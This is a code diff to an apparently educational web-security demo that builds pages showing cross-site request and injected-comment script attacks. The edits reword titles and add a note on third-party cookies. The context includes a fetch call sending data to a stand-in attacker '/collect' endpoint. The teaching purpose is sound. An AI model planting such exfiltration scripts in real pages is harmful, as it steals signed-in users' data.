@@ -18,7 +18,7 @@ export function attackerPage({ site, path }: { readonly site: string; readonly p
 })`
   return page(
     {
-      title: 'The attacker’s page',
+      title: "The attacker's page",
       says: `This page belongs to the attacker. To your browser it is another site than ${site}, where you are signed in to the arena. It asks your browser to send a request there.`,
       policy: `connect-src ${site}; form-action ${site}`,
     },
@@ -34,6 +34,7 @@ export function attackerPage({ site, path }: { readonly site: string; readonly p
 <h2>With a script</h2>
 <pre>${escape(script)}</pre>
 <button id="fetch">Attack with the script</button>
+<p>A browser that blocks third-party cookies sends none along with it.</p>
 <p role="status" id="said"></p>
 <script type="module" nonce="${nonce}">
 document.getElementById('fetch').addEventListener('click', async () => {
@@ -62,7 +63,7 @@ await fetch('${attacker}${path}/collect', {
 })`
   return page(
     {
-      title: 'A page of the arena, with a script of the attacker’s',
+      title: "A page of the arena, with an attacker's script",
       says: 'This page belongs to the site where you are signed in to the arena. It shows a comment that somebody left, and the comment is a script. It waits for you to press the button; a real one would not.',
       policy: `connect-src ${attacker}`,
     },
